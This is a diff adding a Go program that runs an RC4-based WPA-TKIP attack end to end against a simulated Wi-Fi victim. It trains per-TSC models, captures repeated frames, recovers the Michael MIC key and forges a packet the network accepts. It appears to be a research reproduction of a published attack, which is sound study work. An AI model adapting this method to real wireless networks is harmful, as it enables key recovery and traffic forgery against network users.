@@ -1,0 +1,121 @@
+// Command tkipattack runs the full §5 WPA-TKIP attack end to end in the
+// in-process simulator: train the per-TSC model, make the victim transmit
+// identical packets, capture and filter frames, compute per-position
+// likelihoods, walk the ICV-pruned candidate list, and recover the Michael
+// MIC key. It then demonstrates the impact by forging a packet the network
+// accepts.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"math/rand"
+	"os"
+	"time"
+
+	"rc4break/internal/netsim"
+	"rc4break/internal/packet"
+	"rc4break/internal/rc4"
+	"rc4break/internal/tkip"
+)
+
+func main() {
+	keysPerTSC := flag.Uint64("trainkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
+	copies := flag.Uint64("copies", 9<<20, "ciphertext copies to capture (paper: ~9.5 x 2^20 per hour)")
+	maxDepth := flag.Int("maxdepth", 1<<20, "candidate list search bound (paper: nearly 2^30)")
+	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
+	seed := flag.Int64("seed", 1, "simulation seed")
+	flag.Parse()
+
+	msduLen := packet.HeaderSize + 7
+	positions := tkip.TrailerPositions(msduLen)
+
+	fmt.Printf("[1/4] training per-TSC model: %d keys x 256 classes x %d positions...\n",
+		*keysPerTSC, positions[len(positions)-1])
+	start := time.Now()
+	model, err := tkip.Train(tkip.TrainConfig{
+		Positions:  positions[len(positions)-1],
+		KeysPerTSC: *keysPerTSC,
+	})
+	if err != nil {
+		fatal(err)
+	}
+	fmt.Printf("      trained in %v\n", time.Since(start).Round(time.Millisecond))
+
+	session := &tkip.Session{
+		TK:     [16]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x76, 0x87, 0x98, 0xa9, 0xba, 0xcb, 0xdc, 0xed, 0xfe, 0x0f},
+		MICKey: [8]byte{0xc0, 0xff, 0xee, 0x15, 0x90, 0x0d, 0xf0, 0x0d},
+		TA:     [6]byte{0x00, 0x0c, 0x41, 0x82, 0xb2, 0x55},
+		DA:     [6]byte{0x00, 0x1e, 0x58, 0xaa, 0xbb, 0xcc},
+		SA:     [6]byte{0x00, 0x22, 0xfb, 0x11, 0x22, 0x33},
+	}
+	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
+	attack, err := tkip.NewAttack(model, positions)
+	if err != nil {
+		fatal(err)
+	}
+
+	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", *copies, *mode)
+	start = time.Now()
+	switch *mode {
+	case "exact":
+		sniffer := netsim.NewSniffer(victim.FrameLen())
+		for i := uint64(0); i < *copies; i++ {
+			f := victim.Transmit()
+			if sniffer.Filter(f) {
+				attack.Observe(f)
+			}
+		}
+		fmt.Printf("      sniffer captured %d frames, dropped %d\n", sniffer.Captured, sniffer.Dropped)
+	case "model":
+		trailer := trueTrailer(session, victim.MSDU)
+		rng := rand.New(rand.NewSource(*seed))
+		if err := attack.SimulateCaptures(rng, trailer, *copies); err != nil {
+			fatal(err)
+		}
+	default:
+		fatal(fmt.Errorf("unknown mode %q", *mode))
+	}
+	fmt.Printf("      captured in %v (live air time at %d pps: %.1f h)\n",
+		time.Since(start).Round(time.Millisecond), netsim.TKIPInjectionPerSecond,
+		float64(*copies)/netsim.TKIPInjectionPerSecond/3600)
+
+	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
+	start = time.Now()
+	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, *maxDepth)
+	if err != nil {
+		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
+		os.Exit(1)
+	}
+	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, time.Since(start).Round(time.Millisecond))
+	fmt.Printf("      recovered MIC key: %x\n", micKey)
+	if micKey == session.MICKey {
+		fmt.Println("      MIC key matches the real key")
+	} else {
+		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
+	}
+
+	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
+	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
+	forged := attacker.Encapsulate(victim.MSDU, 0xF00D)
+	if _, err := session.Decapsulate(forged); err != nil {
+		fmt.Printf("      forgery rejected: %v\n", err)
+		os.Exit(1)
+	}
+	fmt.Println("      forged packet accepted by the network — attack complete")
+}
+
+// trueTrailer decrypts one encapsulation with the real key to obtain the
+// plaintext MIC‖ICV the model-mode simulation feeds the sampler.
+func trueTrailer(s *tkip.Session, msdu []byte) []byte {
+	f := s.Encapsulate(msdu, 0)
+	key := tkip.MixKey(s.TK, s.TA, 0)
+	plain := make([]byte, len(f.Body))
+	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
+	return plain[len(msdu):]
+}
+
+func fatal(err error) {
+	fmt.Fprintln(os.Stderr, "tkipattack:", err)
+	os.Exit(1)
+}
